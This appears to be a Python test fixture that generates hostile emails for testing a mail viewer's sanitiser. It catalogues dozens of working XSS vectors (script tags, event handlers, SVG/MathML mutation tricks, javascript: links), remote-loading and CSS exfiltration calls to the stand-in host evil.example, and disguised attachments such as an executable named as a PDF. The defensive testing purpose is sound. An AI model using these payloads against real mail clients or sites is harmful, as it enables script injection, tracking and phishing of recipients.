"""Mails that attack whoever looks at them: each asks for `EVIL`, or says `CANARY` where a script of it runs."""

import base64
from collections.abc import Iterator
from email.utils import format_datetime

from fakes.office import Clock

EVIL = "evil.example"
CANARY = "CANARY"
RUNS = f"console.log('{CANARY}')"
PIXEL = f"http://{EVIL}/p.png"

PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)

MARKUP: dict[str, str] = {
    "script": f"<script>{RUNS}</script>",
    "script from elsewhere": f"<script src='http://{EVIL}/x.js'></script>",
    "script split": f"<scr<script>ipt>{RUNS}</scr</script>ipt>",
    "script without an end": f"<script>{RUNS}//",
    "script with a slash": f"<script/x>{RUNS}</script>",
    "handler of a picture": f'<img src=x onerror="{RUNS}">',
    "handler without quotes": f"<img/src=x/onerror={RUNS}>",
    "handler behind a new line": f'<img src=x\nonerror\n=\n"{RUNS}">',
    "handler of the body": f'<body onload="{RUNS}">x',
    "handlers of the pointer": f'<p onmouseover="{RUNS}" onfocus="{RUNS}" tabindex=0 autofocus>x</p>',
    "handler of details": f'<details open ontoggle="{RUNS}"><summary>x</summary></details>',
    "handler of an animation": f"<style>@keyframes a{{}}</style><p style='animation:a' onanimationstart=\"{RUNS}\">x</p>",
    "svg": f'<svg onload="{RUNS}"><script>{RUNS}</script></svg>',
    "svg use": f"<svg><use href='http://{EVIL}/s.svg#x'/><image href='{PIXEL}'/></svg>",
    "svg foreign object": f'<svg><foreignObject><img src=x onerror="{RUNS}"></foreignObject></svg>',
    "svg animate": f"<svg><a><animate attributeName=href values=javascript:{RUNS} /><text>x</text></a></svg>",
    "mathml": f"<math><maction actiontype='statusline' xlink:href='javascript:{RUNS}'>x</maction></math>",
    "mathml mutation": f'<math><mtext><table><mglyph><style><img src=x onerror="{RUNS}"></style></mglyph></table></mtext></math>',
    "noscript mutation": f"<noscript><p title=\"</noscript><img src=x onerror='{RUNS}'>\"></noscript>",
    "style mutation": f"<svg></p><style><a id=\"</style><img src=1 onerror='{RUNS}'>\">",
    "form mutation": f'<form><math><mtext></form><form><mglyph><style></math><img src onerror="{RUNS}">',
    "template": f"<template><script>{RUNS}</script><img src='{PIXEL}'></template>",
    "textarea end": f'<textarea></textarea><img src=x onerror="{RUNS}"></textarea>',
    "title end": f'<title></title><img src=x onerror="{RUNS}"></title>',
    "comment end": f'<!--><img src=x onerror="{RUNS}">-->',
    "conditional comment": f"<!--[if gte IE 4]><script>{RUNS}</script><![endif]-->",
    "cdata": f'<![CDATA[><img src=x onerror="{RUNS}">]]>',
    "processing instruction": f'<?xml-stylesheet href="javascript:{RUNS}"?><p>x</p>',
    "meta refresh": f"<meta http-equiv=refresh content='0;url=http://{EVIL}/'>",
    "meta refresh with script": f'<meta http-equiv=refresh content="0;url=data:text/html,<script>{RUNS}</script>">',
    "meta policy": "<meta http-equiv=Content-Security-Policy content=\"default-src * 'unsafe-inline'\">",
    "base": f"<base href='http://{EVIL}/'><img src='p.png'><a href='x'>x</a>",
    "stylesheet": f"<link rel=stylesheet href='http://{EVIL}/s.css'>",
    "prefetch": f"<link rel=prefetch href='http://{EVIL}/a'><link rel=dns-prefetch href='//{EVIL}'><link rel=preconnect href='//{EVIL}'>",
    "preload and manifest": f"<link rel=preload as=image href='{PIXEL}'><link rel=manifest href='http://{EVIL}/m'><link rel=icon href='{PIXEL}'>",
    "css import": f"<style>@import 'http://{EVIL}/s.css'; @import url(//{EVIL}/t.css);</style>",
    "css url": f"<style>body{{background:url({PIXEL})}}</style><p style=\"background:url('{PIXEL}')\">x</p>",
    "css escaped": f'<p style="b\\61 ckground:u\\72l({PIXEL})">x</p>',
    "css expression": f'<p style="width:expression({RUNS});-moz-binding:url(http://{EVIL}/x)">x</p>',
    "remote font": f"<style>@font-face{{font-family:a;src:url(http://{EVIL}/f.woff)}}p{{font-family:a}}</style><p>x</p>",
    "selector that tells": f"<style>p[title^=a]{{list-style:url({PIXEL})}}</style><p title=abc>x</p>",
    "page over the page": "<p style='position:fixed;inset:0;z-index:9999;background:#fff'>Sign in again</p>",
    "background attribute": f"<table background='{PIXEL}'><tr><td background='{PIXEL}'>x</table>",
    "remote picture": f"<img src='{PIXEL}'><img src='//{EVIL}/p.png'><img src='\\\\{EVIL}\\p.png'>",
    "set of pictures": f"<img srcset='{PIXEL} 1x, http://{EVIL}/q.png 2x'><picture><source srcset='{PIXEL}'><img></picture>",
    "lazy picture": f"<img loading=lazy src='{PIXEL}' lowsrc='{PIXEL}' dynsrc='{PIXEL}' longdesc='{PIXEL}'>",
    "video and audio": f"<video poster='{PIXEL}' src='http://{EVIL}/v' autoplay></video><audio src='http://{EVIL}/a' autoplay></audio><track src='http://{EVIL}/t'>",
    "picture of data": f"<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUNS}'/>\">",
    "frame": f"<iframe src='http://{EVIL}/'></iframe><frameset><frame src='http://{EVIL}/'></frameset>",
    "frame with its document": f'<iframe srcdoc="<script>parent.{RUNS}</script>"></iframe>',
    "frame of data": f'<iframe src="data:text/html,<script>{RUNS}</script>"></iframe>',
    "object, embed, applet": f"<object data='http://{EVIL}/x.swf'></object><embed src='http://{EVIL}/x.swf'><applet code=X archive='http://{EVIL}/x.jar'></applet>",
    "object of data": f'<object data="data:text/html,<script>{RUNS}</script>"></object>',
    "form": f"<form action='http://{EVIL}/'><input name=password autofocus onfocus=\"{RUNS}\"><button>Go</button></form>",
    "button with an action": f"<input type=image src='{PIXEL}' formaction='http://{EVIL}/'><button formaction=javascript:{RUNS}>x</button><isindex action='http://{EVIL}/'>",
    "link to a script": f'<a href="javascript:{RUNS}">x</a><a href="JaVaScRiPt&colon;{RUNS}">y</a><a href="&#1;java&#10;script:{RUNS}">z</a>',
    "link to visual basic": f"<a href=\"vbscript:msgbox('{CANARY}')\">x</a>",
    "link to data": f'<a href="data:text/html,<script>{RUNS}</script>">x</a>',
    "link with a ping": f"<a href='http://{EVIL}/' ping='http://{EVIL}/ping' target=_top>https://www.infotrust.lv</a>",
    "map of links": f"<map name=m><area href='javascript:{RUNS}' shape=default></map><img src=cid:pixel usemap=#m>",
    "dialog and popover": f'<dialog open><script>{RUNS}</script>x</dialog><div popover onbeforetoggle="{RUNS}">x</div>',
    "custom element": f"<x-x onclick=\"{RUNS}\" is=script style='display:block'>x</x-x>",
    "names that shadow": f"<img name=getElementById><form id=document><input name=cookie></form><a id=location href=javascript:{RUNS}>x</a>",
    "null bytes": f'<scr\0ipt>{RUNS}</scr\0ipt><img src=x on\0error="{RUNS}">',
    "utf-7": f"+ADw-script+AD4-{RUNS}+ADw-/script+AD4-",
    "very deep": "<div>" * 4_000 + "x",
    "very wide": "<table><tr>" + "<td colspan=100000 rowspan=100000>x" * 300 + "</table>",
    "very long line": "a" * 300_000 + f"<script>{RUNS}</script>",
    "formatting that multiplies": "".join(f"<b id={n}>" for n in range(300)) + "<p>x" * 300,
    "hidden direction": "<p>Samaksa\u202e0001 RUE\u202c \u200bl\u200bv</p><bdo dir=rtl>abc</bdo>",
    "picture by its name": "<img src=cid:pixel alt='a'><img src='cid:script'><img src='cid:svg'><img src='cid:missing'>",
    "quotes that escape": f"<img src=cid:pixel alt='\" onerror={RUNS} x=\"'><td colspan='\"><script>{RUNS}</script>'>",
}


def _head(subject: str, sender: str, content_type: str) -> str:
    sent = format_datetime(Clock().now)
    return (
        f"From: {sender}\r\nTo: info@infotrust.lv\r\nSubject: {subject}\r\nDate: {sent}\r\n"
        f"MIME-Version: 1.0\r\nContent-Type: {content_type}\r\n"
    )


def _encoded(content: bytes) -> str:
    return base64.encodebytes(content).decode("ascii").replace("\n", "\r\n")


def _part(content_type: str, content: bytes, *headers: str) -> str:
    lines = "".join(f"{header}\r\n" for header in headers)
    return f"--b\r\nContent-Type: {content_type}\r\n{lines}Content-Transfer-Encoding: base64\r\n\r\n{_encoded(content)}"


def _related(name: str, markup: str, charset: str = "utf-8") -> bytes:
    """HTML that wants something erased, so that it goes to review, with parts that pictures may name."""
    body = f"<html><body><p>Lūdzu dzēst visus manus datus.</p>{markup}</body></html>"
    svg = f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{RUNS}\"><image href='{PIXEL}'/></svg>"
    return (
        _head(f"hostile: {name}", "Ļauns <launs@pasts.example>", 'multipart/related; boundary="b"')
        + "\r\n"
        + _part(f"text/html; charset={charset}", body.encode())
        + _part("image/png", PNG, "Content-ID: <pixel>")
        + _part("image/png", f"<script>{RUNS}</script>".encode(), "Content-ID: <script>")
        + _part("image/svg+xml", svg.encode(), "Content-ID: <svg>")
        + "--b--\r\n"
    ).encode()


ATTACHED: dict[str, tuple[str, str, bytes]] = {
    "html file": ("lapa.html", "text/html", f"<script>{RUNS}</script>".encode()),
    "svg file": ("zime.svg", "image/svg+xml", f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{RUNS}\"/>".encode()),
    "gif that is a script": ("a.gif", "image/gif", f"GIF89a/*<script>*/=1;{RUNS}//</script>".encode()),
    "program called a document": ("iesniegums.pdf", "application/pdf", b"MZ\x90\x00" + b"\0" * 60),
    "name that reads backwards": ("lig\u202efdp.exe", "application/pdf", b"MZ\x90\x00"),
    "name with markup": (f"<img src=x onerror={RUNS}>.pdf", "application/pdf", b"%PDF-1.7\n"),
    "name with two endings": ("rekins.pdf.js", "application/pdf", RUNS.encode()),
    "shortcut": ("mape.lnk", "application/octet-stream", b"L\0\0\0\x01\x14\x02\0"),
}


def _with_file(name: str, file_name: str, media_type: str, content: bytes) -> bytes:
    encoded = base64.b64encode(file_name.encode()).decode("ascii")
    disposition = f'Content-Disposition: attachment; filename="=?utf-8?b?{encoded}?="'
    return (
        _head(f"hostile: {name}", "Ļauns <launs@pasts.example>", 'multipart/mixed; boundary="b"')
        + "\r\n"
        + _part("text/plain; charset=utf-8", "Lūdzu dzēst visus manus datus.".encode())
        + _part(media_type, content, disposition)
        + "--b--\r\n"
    ).encode()


def hostile_mails() -> Iterator[tuple[str, bytes]]:
    """Give each mail with its name."""
    for name, markup in MARKUP.items():
        yield name, _related(name, markup, "utf-7" if name == "utf-7" else "utf-8")
    for name, (file_name, media_type, content) in ATTACHED.items():
        yield name, _with_file(name, file_name, media_type, content)
    evil = f"<script>{RUNS}</script><img src={PIXEL}>"
    yield "subject", (_head(evil, "a@pasts.example", "text/plain") + "\r\nLudzu dzest visus manus datus.\r\n").encode()
    sender = f'"{evil}" <a@pasts.example>'
    yield "sender", (_head("x", sender, "text/plain") + "\r\nLudzu dzest visus manus datus.\r\n").encode()
    plain = _head("text", "a@pasts.example", "text/plain; charset=utf-8")
    yield "text that is markup", (plain + f"\r\nLūdzu dzēst visus manus datus.\r\n{evil}</pre>{evil}\r\n").encode()
    confused = _head("type", "a@pasts.example", f'text/plain; charset=utf-8; name="x.html"; x="{evil}"')
    yield "type that is confused", (confused + f"\r\n<html><body>Lūdzu dzēst visus manus datus. {evil}\r\n").encode()
